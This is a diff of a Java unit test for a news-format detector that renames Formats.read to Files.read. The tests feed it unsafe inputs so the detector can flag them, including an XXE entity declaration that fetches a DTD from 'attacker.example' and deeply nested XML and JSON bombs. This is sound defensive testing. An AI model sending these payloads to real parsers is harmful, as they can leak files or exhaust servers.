@@ -42,7 +42,7 @@ class FormatsTest {
         "mail.eml, email"
     })
     void shouldRecogniseAFormatByWhatItIs(String file, String format) {
-        assertThat(Formats.read(text(file)).format()).isEqualTo(format);
+        assertThat(Files.read(text(file)).format()).isEqualTo(format);
     }
 
     @ParameterizedTest
@@ -75,7 +75,7 @@ class FormatsTest {
     void shouldRecogniseTheSmallestItemOfAFormat(String input, String format) {
         String item = input.startsWith("{") || input.startsWith("[") ? input.replace('\'', '"') : input;
 
-        assertThat(Formats.read(item.replace("\\n", "\n")).format()).isEqualTo(format);
+        assertThat(Files.read(item.replace("\\n", "\n")).format()).isEqualTo(format);
     }
 
     @ParameterizedTest
@@ -89,7 +89,7 @@ class FormatsTest {
                 "{\"uri\":\"urn:x:1\",\"temperature\":12}|JSON with the keys uri, temperature"
             })
     void shouldNameWhatItDoesNotRead(String input, String name) {
-        Reading reading = Formats.read(input);
+        Reading reading = Files.read(input);
 
         assertThat(reading.format()).isEqualTo("unknown");
         assertThat(code(reading.found().get(0))).isEqualTo("FMT-UNKNOWN");
@@ -105,14 +105,14 @@ class FormatsTest {
         byte[] text = "Paris".getBytes(StandardCharsets.US_ASCII);
 
         assertThat(Formats.isFramed(iptc7901)).isTrue();
-        assertThat(Formats.readFramed(iptc7901, "").format()).isEqualTo("iptc-7901");
-        assertThat(Formats.readFramed(anpa, "").format()).isEqualTo("anpa-1312");
+        assertThat(Files.FORMATS.readFramed(iptc7901, "").format()).isEqualTo("iptc-7901");
+        assertThat(Files.FORMATS.readFramed(anpa, "").format()).isEqualTo("anpa-1312");
         assertThat(Formats.isFramed(text)).isFalse();
     }
 
     @Test
     void shouldSayTheFormatOfAnUnsafeDocument() {
-        Reading reading = Formats.read("<!DOCTYPE nitf [<!ENTITY a 'b'>]><nitf>&a;</nitf>");
+        Reading reading = Files.read("<!DOCTYPE nitf [<!ENTITY a 'b'>]><nitf>&a;</nitf>");
 
         assertThat(reading.format()).isEqualTo("nitf");
         assertThat(code(reading.found().get(0))).isEqualTo("FMT-UNSAFE");
@@ -128,7 +128,7 @@ class FormatsTest {
                 "12 dead in flood"
             })
     void shouldReadTextThatStartsLikeAnotherFormatAsText(String input) {
-        assertThat(Formats.read(input).format()).isEqualTo("text");
+        assertThat(Files.read(input).format()).isEqualTo("text");
     }
 
     @ParameterizedTest
@@ -139,7 +139,7 @@ class FormatsTest {
                 "<!doctype x [\n<!entity % p SYSTEM 'http://attacker.example/x.dtd'> %p;]><nitf/>"
             })
     void shouldRefuseADocumentThatDeclaresEntitiesAsUnsafe(String input) {
-        assertThat(code(Formats.read(input).found().get(0))).isEqualTo("FMT-UNSAFE");
+        assertThat(code(Files.read(input).found().get(0))).isEqualTo("FMT-UNSAFE");
     }
 
     @Test
@@ -147,9 +147,9 @@ class FormatsTest {
         String xml = "<newsItem xmlns='http://iptc.org/std/nar/2006-10-01/'>" + "<a>".repeat(5000);
         String json = "[".repeat(5000);
 
-        assertThat(code(Formats.read(xml).found().get(0))).isEqualTo("FMT-UNSAFE");
-        assertThat(code(Formats.read(json).found().get(0))).isEqualTo("FMT-UNSAFE");
-        assertThat(message(Formats.read(json).found().get(0))).contains("nesting depth");
+        assertThat(code(Files.read(xml).found().get(0))).isEqualTo("FMT-UNSAFE");
+        assertThat(code(Files.read(json).found().get(0))).isEqualTo("FMT-UNSAFE");
+        assertThat(message(Files.read(json).found().get(0))).contains("nesting depth");
     }
 
     @ParameterizedTest
@@ -161,12 +161,12 @@ class FormatsTest {
                 "<!-- nothing follows -->"
             })
     void shouldRefuseBrokenMarkupAsMalformed(String input) {
-        assertThat(code(Formats.read(input).found().get(0))).isEqualTo("FMT-MALFORMED");
+        assertThat(code(Files.read(input).found().get(0))).isEqualTo("FMT-MALFORMED");
     }
 
     @Test
     void shouldTakeAMessageWithoutItemsForAHeartbeat() {
-        Found found = Formats.read("<newsMessage xmlns='http://iptc.org/std/nar/2006-10-01/'><header/></newsMessage>")
+        Found found = Files.read("<newsMessage xmlns='http://iptc.org/std/nar/2006-10-01/'><header/></newsMessage>")
                 .found()
                 .get(0);
 
@@ -194,7 +194,7 @@ class FormatsTest {
                 "{\"data\":" + "[".repeat(100) + "{\"newsItem\":{}},".repeat(100_000));
 
         for (String input : inputs) {
-            Assertions.assertTimeout(Duration.ofSeconds(10), () -> Formats.read(input), input.substring(0, 60));
+            Assertions.assertTimeout(Duration.ofSeconds(10), () -> Files.read(input), input.substring(0, 60));
         }
     }
 }
